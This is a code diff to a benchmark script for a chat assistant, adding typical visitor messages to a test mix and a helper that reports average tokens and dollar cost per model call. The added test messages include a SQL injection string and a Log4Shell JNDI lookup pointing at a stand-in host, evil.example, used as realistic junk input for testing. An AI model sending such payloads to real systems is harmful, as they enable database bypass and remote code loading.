@@ -145,6 +145,13 @@ def visitor_mix() -> list[str]:
         "jkjkjk",
         "👋",
         "are you real",
+        # what reaches a public chat box besides greetings (issue 12)
+        "cheap SEO backlinks, visit my site www.seo-best.example",
+        "' OR 1=1 --",
+        "${jndi:ldap://evil.example/a}",
+        "how's your day going",
+        "Lorem ipsum dolor sit amet, consectetur adipiscing elit",
+        "is this thing on",
     ]
     chips = [q for q, _ in CANNED] + [q.lower().rstrip("?") for q, _ in CANNED]
     mix = []
@@ -179,6 +186,7 @@ def bench_bedrock() -> dict:
         )
         calls = list(fake.requests)
         tokens = [estimated_input_tokens(call.body or {}) for call in calls[-ITERATIONS:]]
+        per_call = _usage_per_model_call()
         cache.clear()
         fake.clear()
         sources = [_chat(client, message)["source"] for message in visitor_mix()]
@@ -193,12 +201,37 @@ def bench_bedrock() -> dict:
             "calls": len(tokens),
             "estimate": "characters of system prompt + messages / 4",
         },
+        "usage_per_model_call": per_call,
         "visitor_mix": {
             "messages": len(sources),
             "model_calls": model_calls,
             "answered_without_model_pct": round(100 * (1 - model_calls / len(sources)), 1),
             "by_source": {s: sources.count(s) for s in sorted(set(sources))},
         },
+    }
+
+
+def _usage_per_model_call() -> dict:
+    """Mean tokens (as the fake reports them: characters / 4) and dollars per model call."""
+    from django.conf import settings
+    from django.db.models import Avg, Count
+
+    from eve.models import ChatLog
+
+    row = ChatLog.objects.filter(source="model").aggregate(
+        calls=Count("id"),
+        input=Avg("input_tokens"),
+        output=Avg("output_tokens"),
+        cost=Avg("cost_usd"),
+    )
+    return {
+        "calls": row["calls"],
+        "input_tokens": round(row["input"] or 0, 1),
+        "output_tokens": round(row["output"] or 0, 1),
+        "cost_usd": float(round(row["cost"] or 0, 6)),
+        "usd_per_1000_calls": float(round((row["cost"] or 0) * 1000, 2)),
+        "prices_per_mtok": [settings.EVE_PRICE_INPUT_PER_MTOK, settings.EVE_PRICE_OUTPUT_PER_MTOK],
+        "model": settings.EVE_MODEL_ID,
     }
 
 
